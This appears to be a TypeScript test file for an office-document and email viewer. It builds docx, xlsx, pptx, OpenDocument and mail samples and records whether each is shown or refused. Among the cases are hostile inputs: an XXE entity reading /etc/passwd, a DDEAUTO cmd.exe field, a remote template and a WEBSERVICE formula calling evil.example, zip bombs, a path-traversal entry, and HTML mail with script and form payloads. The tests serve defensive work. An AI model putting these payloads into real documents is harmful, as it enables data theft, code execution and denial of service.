import { crc32, deflateRawSync } from 'node:zlib';
import { type Case, ELSEWHERE, namedCase, RUN } from './case.ts';
import { png } from './images.ts';

/** 14:30:10 on 26 November 2026, as archives write it. */
const [TIME, DATE] = [0x73c5, 0x5d7a];

/** A zip archive, deflated. */
export function zip(parts: Readonly<Record<string, string | Buffer>>): Buffer {
  const files: Buffer[] = [];
  const directory: Buffer[] = [];
  let place = 0;
  for (const [name, part] of Object.entries(parts)) {
    const bytes = Buffer.from(part as string);
    const packed = deflateRawSync(bytes, { level: 9 });
    const head = Buffer.alloc(30);
    head.writeUInt32LE(0x04034b50, 0);
    head.writeUInt16LE(20, 4);
    head.writeUInt16LE(8, 8);
    head.writeUInt16LE(TIME, 10);
    head.writeUInt16LE(DATE, 12);
    head.writeUInt32LE(crc32(bytes), 14);
    head.writeUInt32LE(packed.length, 18);
    head.writeUInt32LE(bytes.length, 22);
    head.writeUInt16LE(Buffer.byteLength(name), 26);
    const entry = Buffer.alloc(46);
    entry.writeUInt32LE(0x02014b50, 0);
    entry.writeUInt16LE(20, 6);
    head.copy(entry, 8, 6, 30);
    entry.writeUInt16LE(8, 10);
    entry.writeUInt32LE(place, 42);
    files.push(head, Buffer.from(name), packed);
    directory.push(entry, Buffer.from(name));
    place += head.length + Buffer.byteLength(name) + packed.length;
  }
  const list = Buffer.concat(directory);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(Object.keys(parts).length, 8);
  end.writeUInt16LE(Object.keys(parts).length, 10);
  end.writeUInt32LE(list.length, 12);
  end.writeUInt32LE(place, 16);
  return Buffer.concat([...files, list, end]);
}

const relation = (id: string, type: string, target: string, more = ''): string =>
  `<Relationship Id="${id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" ${more}/>`;
const relations = (...all: readonly string[]): string => `<Relationships>${all.join('')}</Relationships>`;
const OUTSIDE = 'TargetMode="External"';

type Parts = Readonly<Record<string, string | Buffer>>;

const W = 'xmlns:w="w" xmlns:r="r" xmlns:a="a"';
const paragraph = (text: string): string => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`;
const docx = (body: string, more: Parts = {}): Buffer =>
  zip({
    '[Content_Types].xml': '<Types/>',
    'word/document.xml': `<w:document ${W}><w:body>${body}</w:body></w:document>`,
    ...more,
  });
const SAID = paragraph('The purchase price');

const xlsx = (rows: string, more: Parts = {}): Buffer =>
  zip({
    'xl/workbook.xml': '<workbook xmlns:r="r"><sheets><sheet name="Figures" sheetId="1" r:id="a"/></sheets></workbook>',
    'xl/_rels/workbook.xml.rels': relations(relation('a', 'worksheet', 'worksheets/sheet1.xml')),
    'xl/worksheets/sheet1.xml': `<worksheet><sheetData>${rows}</sheetData></worksheet>`,
    ...more,
  });
const CELL = '<row r="1"><c r="A1" t="inlineStr"><is><t>Revenue</t></is></c></row>';

const pptx = (shapes: string, more: Parts = {}): Buffer =>
  zip({
    'ppt/presentation.xml':
      '<p:presentation xmlns:p="p" xmlns:r="r"><p:sldIdLst><p:sldId id="256" r:id="s"/></p:sldIdLst></p:presentation>',
    'ppt/_rels/presentation.xml.rels': relations(relation('s', 'slide', 'slides/slide1.xml')),
    'ppt/slides/slide1.xml': `<p:sld xmlns:p="p" xmlns:a="a" xmlns:r="r"><p:cSld><p:spTree>${shapes}</p:spTree></p:cSld></p:sld>`,
    ...more,
  });
const SHAPE = '<p:sp><p:txBody><a:p><a:r><a:t>Our strategy</a:t></a:r></a:p></p:txBody></p:sp>';

const open = (body: string, more: Parts = {}): Buffer =>
  zip({
    mimetype: 'application/vnd.oasis.opendocument',
    'content.xml': `<o:document-content xmlns:o="o" xmlns:text="t" xmlns:table="tb" xmlns:draw="d" xmlns:xlink="x"><o:body>${body}</o:body></o:document-content>`,
    ...more,
  });

const text = (bytes: Buffer, says: string) => ({ bytes, outcome: 'text', says }) as const;
const refused = (bytes: Buffer, says = '') => ({ bytes, outcome: 'refused', says }) as const;
const compound = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(4000)]);
const NOISE = Buffer.alloc(4000, 0x42);
const mail = (lines: string): Buffer => Buffer.from(lines.replaceAll('\n', '\r\n'));
const nested = (depth: number): string =>
  depth === 0
    ? 'Content-Type: text/plain\n\ninnermost\n'
    : `Content-Type: multipart/mixed; boundary=b${depth}\n\n--b${depth}\n${nested(depth - 1)}\n--b${depth}--\n`;

/** Documents of office programs and mails. */
export const offices = (): readonly Case[] => [
  ...namedCase('docx', {
    'a contract': text(docx(SAID), 'The purchase price'),
    'a remote picture': text(
      docx(`${SAID}<w:p><w:r><w:drawing><a:blip r:link="p"/></w:drawing></w:r></w:p>`, {
        'word/_rels/document.xml.rels': relations(relation('p', 'image', ELSEWHERE, OUTSIDE)),
      }),
      'The purchase price',
    ),
    'a remote template': text(
      docx(SAID, {
        'word/_rels/settings.xml.rels': relations(
          relation('t', 'attachedTemplate', 'https://evil.example/t.dotm', OUTSIDE),
        ),
      }),
      'The purchase price',
    ),
    'a field that fetches': text(
      docx(`${SAID}<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText></w:r></w:p>`),
      'The purchase price',
    ),
    'a picture': {
      bytes: docx(`<w:p><w:r><w:drawing><a:blip r:embed="p"/></w:drawing></w:r></w:p>`, {
        'word/media/i.png': png({ width: 16, height: 16 }),
        'word/_rels/document.xml.rels': relations(relation('p', 'image', 'media/i.png')),
      }),
      outcome: 'drawn',
    },
    'markup as text': text(docx(paragraph(`&lt;script&gt;${RUN}&lt;/script&gt;`)), '<script>'),
    'a page of HTML in it': text(
      docx(`${SAID}<w:altChunk r:id="h"/>`, {
        'word/afchunk.html': `<script>${RUN}</script>`,
        'word/_rels/document.xml.rels': relations(relation('h', 'aFChunk', 'afchunk.html')),
      }),
      'The purchase price',
    ),
    'entities that hold themselves': refused(
      zip({
        'word/document.xml':
          '<!DOCTYPE d [<!ENTITY a "x"><!ENTITY b "&a;&a;">]><w:document xmlns:w="w"><w:body><w:p><w:r><w:t>&b;</w:t></w:r></w:p></w:body></w:document>',
      }),
      'damaged',
    ),
    'a file of this machine': refused(
      zip({
        'word/document.xml':
          '<!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd">]><w:document xmlns:w="w"><w:body><w:p><w:r><w:t>&a;</w:t></w:r></w:p></w:body></w:document>',
      }),
      'damaged',
    ),
    'a zip bomb': refused(docx(SAID, { 'word/styles.xml': Buffer.alloc(310_000_000) }), 'too large'),
    'a path out of its folder': text(docx(SAID, { '../../../etc/passwd': 'x' }), 'The purchase price'),
    'ten thousand paragraphs': text(docx(SAID.repeat(10_000)), 'Show more'),
    'a table of three thousand rows': text(
      docx(`<w:tbl>${`<w:tr><w:tc>${SAID}</w:tc></w:tr>`.repeat(3000)}</w:tbl>`),
      'The first 2 000 rows',
    ),
    'tables within tables': text(
      docx('<w:tbl><w:tr><w:tc>'.repeat(60) + SAID + '</w:tc></w:tr></w:tbl>'.repeat(60)),
      'The purchase price',
    ),
    'cut off': refused(docx(SAID).subarray(0, 200), 'damaged'),
    'locked by a password': refused(compound, 'password'),
    noise: refused(NOISE, 'not of the kind'),
    empty: refused(Buffer.alloc(0), 'not of the kind'),
    'a workbook': refused(xlsx(CELL), 'no document of Word'),
    'without a text': refused(docx(''), 'No text'),
  }),
  ...namedCase('docm', {
    'with macros': text(docx(SAID, { 'word/vbaProject.bin': compound }), 'The purchase price'),
  }),
  ...namedCase('xlsx', {
    figures: text(xlsx(CELL), 'Revenue'),
    'a formula that fetches': text(
      xlsx(`${CELL}<row r="2"><c r="A2"><f>WEBSERVICE("https://evil.example/")</f><v>1</v></c></row>`),
      'Revenue',
    ),
    'a link to another workbook': text(xlsx(CELL, { 'xl/externalLinks/externalLink1.xml': '<x/>' }), 'Revenue'),
    'a cell at the end': text(xlsx(`${CELL}<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>`), 'Revenue'),
    'a thousand cells at the end of their rows': text(
      xlsx(
        CELL +
          Array.from({ length: 1000 }, (_, row) => `<row r="${row + 2}"><c r="XFD${row + 2}"><v>1</v></c></row>`).join(
            '',
          ),
      ),
      'Revenue',
    ),
    'fifty thousand rows': text(
      xlsx(
        CELL +
          Array.from(
            { length: 50_000 },
            (_, row) => `<row r="${row + 2}"><c r="A${row + 2}"><v>${row}</v></c></row>`,
          ).join(''),
      ),
      '50 001 rows',
    ),
    'rows in a wrong order': text(
      xlsx(`<row r="-5"><c r="A1"><v>1</v></c></row><row r="x"><c r="??"><v>2</v></c></row>${CELL}`),
      'Revenue',
    ),
    'a text that is not there': refused(
      xlsx('<row r="1"><c r="A1" t="s"/></row>', { 'xl/worksheets/sheet1.xml': '<worksheet/>' }),
      'No text',
    ),
    'a zip bomb': refused(xlsx(CELL, { 'xl/sharedStrings.xml': Buffer.alloc(310_000_000, 32) }), 'too large'),
    'locked by a password': refused(compound, 'password'),
    noise: refused(NOISE, 'not of the kind'),
  }),
  ...namedCase('xlsm', { 'with macros': text(xlsx(CELL, { 'xl/vbaProject.bin': compound }), 'Revenue') }),
  ...namedCase('pptx', {
    strategy: text(pptx(SHAPE), 'Our strategy'),
    'a remote picture': text(
      pptx(`${SHAPE}<p:pic><p:blipFill><a:blip r:link="p"/></p:blipFill></p:pic>`, {
        'ppt/slides/_rels/slide1.xml.rels': relations(relation('p', 'image', ELSEWHERE, OUTSIDE)),
      }),
      'Our strategy',
    ),
    'a remote film': text(
      pptx(SHAPE, {
        'ppt/slides/_rels/slide1.xml.rels': relations(relation('v', 'video', 'https://evil.example/film.mp4', OUTSIDE)),
      }),
      'Our strategy',
    ),
    'a slide that is missing': text(pptx(SHAPE, { 'ppt/_rels/presentation.xml.rels': relations() }), 'missing'),
    noise: refused(NOISE, 'not of the kind'),
  }),
  ...namedCase('odt', {
    'a letter': text(open('<text:p>Dear Ada</text:p>'), 'Dear Ada'),
    'a remote picture': text(
      open(`<text:p>Dear Ada<draw:frame><draw:image xlink:href="${ELSEWHERE}"/></draw:frame></text:p>`),
      'Dear Ada',
    ),
    macros: text(open('<text:p>Dear Ada</text:p>', { 'Basic/Standard/Module1.xml': '<x/>' }), 'Dear Ada'),
    'locked by a password': refused(open('x', { 'META-INF/manifest.xml': '<m:encryption-data/>' }), 'password'),
    noise: refused(NOISE, 'not of the kind'),
  }),
  ...namedCase('ods', {
    'a sheet': text(
      open(
        '<table:table table:name="S"><table:table-row><table:table-cell><text:p>Revenue</text:p></table:table-cell></table:table-row></table:table>',
      ),
      'Revenue',
    ),
    'cells without an end': text(
      open(
        `<table:table table:name="S">${'<table:table-row table:number-rows-repeated="99999999"><table:table-cell table:number-columns-repeated="99999999"><text:p>v</text:p></table:table-cell></table:table-row>'.repeat(3)}</table:table>`,
      ),
      'v',
    ),
  }),
  ...namedCase('odp', {
    'a slide': text(
      open(
        '<draw:page draw:name="p1"><draw:frame><draw:text-box><text:p>Our strategy</text:p></draw:text-box></draw:frame></draw:page>',
      ),
      'Our strategy',
    ),
  }),
  ...namedCase('eml', {
    'an offer': text(mail('From: a@example.org\nSubject: Offer\n\nDear Ben\n'), 'Dear Ben'),
    'HTML with scripts and pictures': text(
      mail(
        `Subject: Offer\nContent-Type: text/html\n\n<p>Dear Ben</p><img src="${ELSEWHERE}"><script>${RUN}</script><iframe src="https://evil.example"></iframe><form action="https://evil.example">\n`,
      ),
      'Dear Ben',
    ),
    'forty levels': text(mail(`Subject: Deep\n${nested(40)}`), 'innermost'),
    'three hundred levels': refused(mail(`Subject: Deep\n${nested(300)}`), 'damaged'),
    'a border that never ends': text(
      mail('Subject: Open\nContent-Type: multipart/mixed; boundary=x\n\n--x\n\nDear Ben\n'),
      'Dear Ben',
    ),
    'a head of two million signs': refused(mail(`Subject: ${'x'.repeat(2_000_000)}\n\nDear\n`), 'damaged'),
    empty: refused(Buffer.alloc(0), 'No text'),
  }),
  ...namedCase('msg', { noise: refused(NOISE, 'not of the kind'), 'an empty container': refused(compound, 'damaged') }),
];
